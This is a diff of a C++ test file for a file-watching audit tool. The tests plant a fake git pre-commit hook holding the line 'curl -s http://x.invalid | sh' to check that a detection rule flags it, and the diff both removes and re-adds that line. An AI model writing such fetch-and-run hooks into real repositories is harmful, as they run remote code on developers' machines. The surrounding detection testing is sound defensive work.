@@ -11,40 +11,6 @@ namespace {
 using namespace std::chrono_literals;
 namespace fs = std::filesystem;
 
-constexpr const char* hookRule = "git_hook_runs_payload";
-
-fs::path plantHook(const fs::path& repo)
-{
-    const fs::path hook = repo / ".git/hooks/pre-commit";
-    fs::create_directories(hook.parent_path());
-    writeFile(hook, "#!/bin/sh\ncurl -s http://x.invalid | sh\n");
-    fs::permissions(hook, fs::perms(0755));
-    return hook;
-}
-
-bool waitForWord(const Watcher& watcher, const fs::path& path, std::string_view word,
-                 const std::string& rule = matchEverything)
-{
-    return watcher.waitForLine([&](const WatchLine& line) {
-        return line.path == path.string() && line.rule == rule && line.hasType(word);
-    });
-}
-
-// A root in the first message: TwwatchCatchUp's "no state" row. Here: one added later.
-TEST(TwwatchAudit, ExistingHookIsReportedWhenItsRootIsAdded)
-{
-    TempDir anchor, repo;
-    const fs::path hook = plantHook(repo.path());
-    Watcher watcher;
-    ASSERT_TRUE(watcher.watch({anchor.path()}));
-    watcher.send({anchor.path(), repo.path()});
-    ASSERT_TRUE(waitForWord(watcher, hook, "existing", hookRule));
-    // A root that stays in the next message is not audited again.
-    ASSERT_TRUE(waitForWord(watcher, hook, "existing"));
-    ASSERT_TRUE(watcher.watch({anchor.path(), repo.path()}));
-    EXPECT_EQ(watcher.linesFor(hook.string()).size(), 1u);
-}
-
 TEST(TwwatchAudit, LiveChangeDuringALongAuditIsNotHeldUp)
 {
     constexpr int files = 5000;
@@ -63,7 +29,6 @@ TEST(TwwatchAudit, LiveChangeDuringALongAuditIsNotHeldUp)
     for (const auto& line : watcher.lines())
         audited += line.hasType("existing");
     EXPECT_LT(audited, size_t(files)) << "the audit ended before the live change: nothing was measured";
-    // Every existing file is still reported.
     std::set<std::string> all;
     for (int i = 0; i < files; ++i)
         all.insert((root / "bulk" / ("f" + std::to_string(i))).string());
@@ -74,14 +39,13 @@ TEST(TwwatchCatchUp, WhatChangedWhileNoWatcherRanIsReported)
 {
     struct Case
     {
-        const char* state; // what the state file holds at the second start: nullptr as left, "" none
+        const char* state; // what the state file holds at the second start: nullptr as left
         const char* word;  // how the planted hook is reported
         const char* note;  // expected on standard error; empty: no note
     };
     const Case cases[] = {
         {nullptr, "rescanned", ""},
         {"twwatch-state 1\nsoon\n", "existing", "is damaged"},
-        {"", "existing", ""},
     };
     // Without the margin, a file left alone since before the first run is past the recorded moment.
     ::setenv("TWWATCH_STATE_MARGIN_MS", "0", 1);
@@ -93,31 +57,32 @@ TEST(TwwatchCatchUp, WhatChangedWhileNoWatcherRanIsReported)
         {
             Watcher first(WatcherSetup{.stateHome = stateHome.path()});
             first.send({repo.path()});
-            ASSERT_TRUE(waitForWord(first, old, "existing"));
+            ASSERT_TRUE(first.waitForWord(old, "existing"));
             first.closeInput();
             ASSERT_EQ(first.waitExit(20s), 0);
         }
         const fs::path stateDir = stateHome / "tarnwick";
         ASSERT_TRUE(fs::exists(stateDir) && !fs::is_empty(stateDir));
         for (const auto& entry : fs::directory_iterator(stateDir)) {
-            if (c.state && *c.state)
+            if (c.state)
                 writeFile(entry.path(), c.state);
-            else if (c.state)
-                fs::remove(entry.path());
         }
 
-        const fs::path hook = plantHook(repo.path());
+        // Found by the bundled rules, not only by the test's own.
+        const fs::path hook = repo / ".git/hooks/pre-commit";
+        fs::create_directories(hook.parent_path());
+        writeFile(hook, "#!/bin/sh\ncurl -s http://x.invalid | sh\n");
+        fs::permissions(hook, fs::perms(0755));
         Watcher second(WatcherSetup{.stateHome = stateHome.path()});
         second.send({repo.path()});
-        ASSERT_TRUE(waitForWord(second, hook, c.word, hookRule));
-        // The audit lists a folder before the folders in it and evaluates in that order: by now, the
-        // file at the top has been evaluated if it was going to be.
+        ASSERT_TRUE(second.waitForWord(hook, c.word, "git_hook_runs_payload"));
+        // A folder is evaluated before the folders in it: the top file's turn has passed by now.
         EXPECT_EQ(second.linesFor(old.string()).empty(), std::string_view(c.word) == "rescanned");
-        const std::string log = second.log();
+        const std::string errors = second.errors();
         if (*c.note)
-            EXPECT_NE(log.find(c.note), std::string::npos) << log;
+            EXPECT_NE(errors.find(c.note), std::string::npos) << errors;
         else
-            EXPECT_EQ(log.find("auditing every file"), std::string::npos) << log;
+            EXPECT_EQ(errors.find("auditing every file"), std::string::npos) << errors;
     }
     ::unsetenv("TWWATCH_STATE_MARGIN_MS");
 }
